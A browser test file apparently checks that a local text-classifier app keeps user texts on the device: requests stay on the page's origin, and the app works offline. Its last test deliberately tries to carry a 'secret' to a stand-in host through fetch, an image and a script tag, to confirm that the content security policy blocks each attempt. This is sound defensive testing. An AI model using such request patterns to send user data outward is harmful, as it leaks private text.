// The page's word that texts never leave the device. Every other test checks it on the way, too.

import { expect, test } from "./page.ts";

test("a whole visit asks only this origin, with GET, and the policy stops nothing", async ({ app, page, baseURL }) => {
  const asked: string[] = [];
  const sent: string[] = [];
  page.on("request", (request) => {
    asked.push(request.url());
    if (request.method() !== "GET" || request.postData() !== null) sent.push(request.url());
  });
  page.on("websocket", (socket) => sent.push(socket.url()));
  await page.addInitScript(() => {
    const stopped: string[] = [];
    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
      stopped.push(`${violatedDirective} ${blockedURI}`);
    });
    Object.assign(window, { stopped });
  });

  await app.open({ epochs: 2 });
  await app.chooseSample("Product reviews");
  await app.chooseEngine("WebGPU");
  await app.train();
  await app.trial.fill("a secret text");
  await expect(app.prediction).toBeVisible();
  await app.speak("简体中文");
  await app.speak("English");
  await page.reload();
  await expect(app.trial).toHaveValue("a secret text");

  expect(asked.length).toBeGreaterThan(4);
  for (const url of asked) {
    // A worker begins with an address in the page's own memory.
    expect(new URL(url).origin).toBe(new URL(baseURL ?? "").origin);
    expect(decodeURIComponent(url)).not.toContain("secret");
  }
  expect(sent).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { stopped: string[] }).stopped)).toEqual([]);
});

test("once loaded, everything works without a network", async ({ app, page, context }) => {
  await app.open({ epochs: 2 });
  await app.settled();
  await context.setOffline(true);
  await app.paste("a\tone text here\nb\tanother text\na\ta third text\nb\tand the last");
  for (const model of ["CNN", "GRU"]) {
    await app.chooseModel(model);
    await app.train();
    await app.reset();
  }
  await app.chooseModel("Transformer");
  await app.train();
  await app.trial.fill("another text");
  await expect(app.prediction).toBeVisible();
  await app.tab("Why").click();
  await expect(page.getByText("The weights add up to")).toBeVisible();
  await app.go("Compare", "Models");
  await expect(app.button("Compare")).toBeEnabled();
  await app.go("Compare", "Runs");
  await expect(page.getByRole("textbox", { name: "Name of run 1" })).toBeVisible();
});

// Without `app`, whose word this test breaks on purpose.
test("the policy stops whatever would carry a text to a stranger", { tag: "@firefox" }, async ({ page, context }) => {
  const left: string[] = [];
  await context.route("https://stranger.example/**", (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  await page.goto("./");
  const stopped = await page.evaluate(async () => {
    const stops: string[] = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stops.push(effectiveDirective));
    const stranger = "https://stranger.example/?secret";
    await fetch(stranger).catch(() => undefined);
    await new Promise((resolve) => {
      const image = new Image();
      image.onerror = resolve;
      image.src = stranger;
    });
    await new Promise((resolve) => {
      const script = document.createElement("script");
      script.onerror = resolve;
      try {
        script.src = stranger;
        document.head.append(script);
      } catch {
        // The address alone is refused by browsers that know trusted types.
        setTimeout(resolve);
      }
    });
    return stops;
  });
  expect(stopped).toEqual([
    "connect-src",
    "img-src",
    expect.stringMatching(/^(script-src-elem|require-trusted-types-for)$/),
  ]);
  expect(left).toEqual([]);
});
